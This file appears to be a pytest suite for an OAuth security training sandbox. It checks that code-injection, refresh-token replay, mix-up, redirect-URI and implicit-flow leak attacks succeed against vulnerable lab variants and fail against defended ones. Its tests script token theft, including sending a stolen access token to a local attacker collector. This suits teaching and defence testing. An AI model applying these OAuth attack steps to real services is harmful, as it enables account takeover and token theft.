"""Attack labs 3-7 over HTTP: each attack succeeds against the lab's weak
configuration and fails against the defence, judged on the captured messages; the
sandbox's own behaviour is unchanged by each lab's configuration."""

from __future__ import annotations

import html
import json
import re

import pytest
import requests

from flowlab.core.demo import demo_apps
from flowlab.labs.client import credentials
from flowlab.sandbox.store import DB
from flowlab.sandbox.store import get_client
from flowlab.serving import stop
from flowlab.web import attacker
from tests.conftest import LiveServer
from tests.conftest import make_app
from tests.labs_helpers import form_token
from tests.labs_helpers import run_of
from tests.labs_helpers import sign_in
from tests.labs_helpers import start
from tests.labs_helpers import status

LINK = re.compile(r'id="bait" href="([^"]+)"')


@pytest.fixture(scope="module")
def lab_server(tmp_path_factory):
    server = LiveServer(make_app(tmp_path_factory.mktemp("labs")))
    listener = attacker.start(server.app)
    yield server
    stop(listener)
    server.close()


def bait(url: str) -> str:
    """The link on the attacker's page."""
    return html.unescape(LINK.search(requests.get(url).text).group(1))


@pytest.mark.parametrize("variant", ["vulnerable", "defended"])
def test_code_injection(lab_server, variant):
    browser = requests.Session()  # the attacker's own browser
    attacker_page = start(browser, lab_server, "code-injection", variant)
    run = run_of(lab_server, attacker_page)
    alice = run.entries("attacker-authorize")[0].exchange.request.start_line
    assert ("code_challenge=" in alice) == (variant == "defended")
    stolen = run.attacker["stolen"]
    assert f"code={stolen}" in run.entries("attacker-consent")[0].exchange.response \
        .header("Location")
    # The attacker's own sign-in, stopped at the sandbox's sign-in page.
    assert "/sandbox/authorize" in browser.get(
        lab_server(f"/labs/code-injection/{variant}/login")).url
    link = bait(attacker_page)
    assert f"code={stolen}" in link and link.startswith(lab_server("/labs/"))
    page = browser.get(link)
    callback = run.entries("callback")[0].exchange.request.start_line
    assert f"code={stolen}" in callback
    token = run.entries("token")[0].exchange
    assert token.request.header("Authorization").startswith("Basic ")
    if variant == "vulnerable":
        assert "code_verifier" not in token.request.text
        assert status(run.entries("token")[0]) == 200
        me = json.loads(run.entries("me")[0].exchange.response.body)
        assert me["id"] == "alice"
        assert "Attack succeeded" in page.text and "Alice Lindqvist" in page.text
    else:
        assert "code_verifier=" in token.request.text
        assert status(run.entries("token")[0]) == 400
        assert json.loads(token.response.body)["error"] == "invalid_grant"
        assert run.entries("me") == []
        assert "Attack failed" in page.text


@pytest.mark.parametrize("variant", ["vulnerable", "defended"])
def test_refresh_replay(lab_server, variant):
    victim = requests.Session()
    attacker_page = start(victim, lab_server, "refresh-replay", variant)
    signed_in = sign_in(victim, lab_server, "refresh-replay", variant, "alice")
    assert "Alice Lindqvist" in signed_in.text
    run = run_of(lab_server, attacker_page)
    issuer = "/sandbox/best-practice/" if variant == "defended" else "/sandbox/api/"
    token = run.entries("token")[0].exchange
    assert issuer in token.url and token.request.header("Authorization") is None
    assert "code_verifier=" in token.request.text  # a public client, with PKCE
    stolen = json.loads(token.response.body)["refresh_token"]
    thief = requests.Session()
    loot = thief.get(attacker_page)
    assert f"refresh_token={stolen}" in loot.text
    thief.post(attacker_page, data={"csrf_token": form_token(loot)})
    taken = run.entries("attacker-refresh")[0]
    assert f"refresh_token={stolen}" in taken.exchange.request.text
    assert status(taken) == 200 and status(run.entries("attacker-me")[0]) == 200
    rotated = "refresh_token" in json.loads(taken.exchange.response.body)
    assert rotated == (variant == "defended")
    page = victim.post(lab_server(f"/labs/refresh-replay/{variant}/recheck"),
                       data={"csrf_token": form_token(signed_in)})
    refresh = run.entries("refresh")[0]
    assert f"refresh_token={stolen}" in refresh.exchange.request.text
    if variant == "vulnerable":
        assert status(refresh) == 200
        assert status(run.entries("attacker-check")[0]) == 200
        assert "Attack succeeded" in page.text
    else:
        assert status(refresh) == 400
        assert json.loads(refresh.exchange.response.body)["error"] == "invalid_grant"
        assert status(run.entries("attacker-check")[0]) == 401
        assert "Attack failed" in page.text


@pytest.mark.parametrize("variant", ["vulnerable", "defended"])
def test_mix_up(lab_server, variant):
    victim = requests.Session()
    attacker_page = start(victim, lab_server, "mix-up", variant)
    landed = sign_in(victim, lab_server, "mix-up", variant, "alice")
    run = run_of(lab_server, attacker_page)
    # The attacker's server got the client's request and forwarded it unchanged
    # but for the client id, to the honest sandbox.
    asked = run.entries("rival-authorize")[0].exchange.request.start_line
    assert "client_id=playlistpal" in asked
    callback = run.entries("callback")[0].exchange.request.start_line
    sandbox_iss = "iss=" + requests.utils.quote(lab_server("/sandbox"), safe="")
    assert "code=" in callback and sandbox_iss in callback
    if variant == "vulnerable":
        token = run.entries("token")[0].exchange
        assert token.url.startswith("http://127.0.0.2:")
        assert "code=" in token.request.text
        assert run.attacker["code"] in token.request.text
        assert "Attack succeeded" in landed.text
        assert run.attacker["code"] in requests.get(attacker_page).text
    else:
        assert run.entries("token") == [] and "code" not in run.attacker
        assert "Attack failed" in landed.text and "iss names another" in landed.text


def agree_as(browser: requests.Session, server, page: requests.Response, user: str):
    """At the sandbox's sign-in page for an authorization request: sign in, agree."""
    consent = browser.post(server("/sandbox/login"), data={
        "csrf_token": form_token(page), "user": user,
        "next": page.url.split(server(""), 1)[1]})
    return browser.post(consent.url, data={
        "csrf_token": form_token(consent), "decision": "agree"})


@pytest.mark.parametrize("variant", ["vulnerable", "defended"])
def test_redirect_uri(lab_server, variant):
    victim = requests.Session()
    attacker_page = start(victim, lab_server, "redirect-uri", variant)
    run = run_of(lab_server, attacker_page)
    go = attacker_page.split("/labs/", 1)[0] + bait(attacker_page)
    page = victim.get(go)
    crafted = run.entries("crafted")[0].exchange.response.header("Location")
    assert "redirect_uri=http%3A%2F%2F127.0.0.2%3A" in crafted
    # The lab's own look at the server's answer keeps no session cookie it was set.
    answer = run.entries("crafted-answer")[0].exchange.response
    assert all(value.startswith("(") for name, value in answer.headers
               if name.lower() == "set-cookie")
    if variant == "vulnerable":
        assert "/sandbox/lab-redirect-uri/authorize?" in crafted
        landed = agree_as(victim, lab_server, page, "alice")
        assert landed.url == attacker_page
        assert "code=" in run.entries("intercepted")[0].exchange.request.start_line
        assert status(run.entries("attacker-token")[0]) == 200
        me = json.loads(run.entries("attacker-me")[0].exchange.response.body)
        assert me["id"] == "alice"
        verdict = victim.get(lab_server("/labs/redirect-uri/vulnerable")).text
        assert "Attack succeeded" in verdict
    else:
        assert "/sandbox/authorize?" in crafted
        assert page.status_code == 400 and "Invalid redirect URI" in page.text
        assert page.history[-1].url.startswith("http://127.0.0.2:")  # the bait
        assert run.entries("intercepted") == [] and run.entries("attacker-token") == []
        verdict = victim.get(lab_server("/labs/redirect-uri/defended")).text
        assert "Attack failed" in verdict


def test_sandbox_unchanged_by_these_labs(lab_server, http):
    """Each lab's configuration stays inside the lab: the issuers' metadata name no
    lab path, the lab issuer has none and serves only its own clients, the sandbox's
    authorize endpoints still refuse the pattern-matched URI for the lab's own
    client, and the demo apps are as the sandbox seeds them."""
    app = lab_server.app
    for path in ("/sandbox", "/sandbox/best-practice"):
        meta = http.get(lab_server("/.well-known/oauth-authorization-server" + path))
        assert meta.status_code == 200 and "lab-" not in meta.text
        assert meta.json()["authorization_response_iss_parameter_supported"] is True
    assert http.get(lab_server("/.well-known/oauth-authorization-server"
                               "/sandbox/lab-redirect-uri")).status_code == 404
    lab_client, _ = credentials(app.config, "redirect-uri", "vulnerable")
    web, _ = demo_apps(app.config)
    sneaky = {"response_type": "code", "redirect_uri": "http://127.0.0.2:9/labs/"
              "redirect-uri/x", "code_challenge": "x" * 43,
              "code_challenge_method": "S256", "scope": "user-read-private"}
    for path in ("/sandbox", "/sandbox/best-practice"):
        page = http.get(lab_server(path + "/authorize"),
                        params={**sneaky, "client_id": lab_client})
        assert page.status_code == 400 and "Invalid redirect URI" in page.text
    other = http.get(lab_server("/sandbox/lab-redirect-uri/authorize"),
                     params={**sneaky, "client_id": web.client_id})
    assert other.status_code == 400 and "Only this lab" in other.text
    with DB.connection(app) as conn:
        for demo in demo_apps(app.config):
            row = get_client(conn, demo.client_id)
            assert row.confidential == demo.confidential
            assert row.redirect_uris == demo.redirect_uris and row.owner is None
            assert set(row.response_types) == set(demo.response_types)
        assert not get_client(conn, lab_client).confidential  # public, lab-owned
        assert get_client(conn, lab_client).owner == "labs"


@pytest.mark.parametrize("variant", ["vulnerable", "defended"])
def test_implicit_leak_pages(lab_server, variant):
    """Over HTTP (no script runs): the player's address after sign-in, and the
    analytics collector judging what it was sent."""
    victim = requests.Session()
    attacker_page = start(victim, lab_server, "implicit-leak", variant)
    login = victim.get(lab_server(f"/labs/implicit-leak/{variant}/login"),
                       allow_redirects=False).headers["Location"]
    assert ("response_type=token" in login) == (variant == "vulnerable")
    consent = agree_as(victim, lab_server, victim.get(login), "alice")
    run = run_of(lab_server, attacker_page)
    player = next(hop.headers["Location"] for hop in consent.history
                  if "/callback" in hop.headers.get("Location", ""))
    if variant == "vulnerable":
        assert "#access_token=" in player and consent.url == player
        assert "access_token" not in run.entries("callback")[0].exchange.request \
            .start_line  # the fragment never reaches the server
    else:
        assert "?code=" in player and "#" not in player
        assert status(run.entries("token")[0]) == 200
        assert consent.url == lab_server("/labs/implicit-leak/defended/callback")
    csp = consent.headers["Content-Security-Policy"]
    assert "script-src 'self' http://127.0.0.2:" in csp
    # What the analytics script would report: the page's address as the browser has it.
    collect = attacker_page + "/as/collect"
    requests.get(collect, params={"u": player if variant == "vulnerable"
                                  else consent.url})
    leak = run.entries("leak")[0].exchange.request.start_line
    if variant == "vulnerable":
        assert "access_token%3D" in leak
        assert status(run.entries("attacker-me")[0]) == 200
        page = victim.get(lab_server("/labs/implicit-leak/vulnerable")).text
        assert "Attack succeeded" in page
    else:
        assert "access_token" not in leak and "code" not in leak
        assert run.entries("attacker-me") == []
        page = victim.get(lab_server("/labs/implicit-leak/defended")).text
        assert "Attack failed" in page
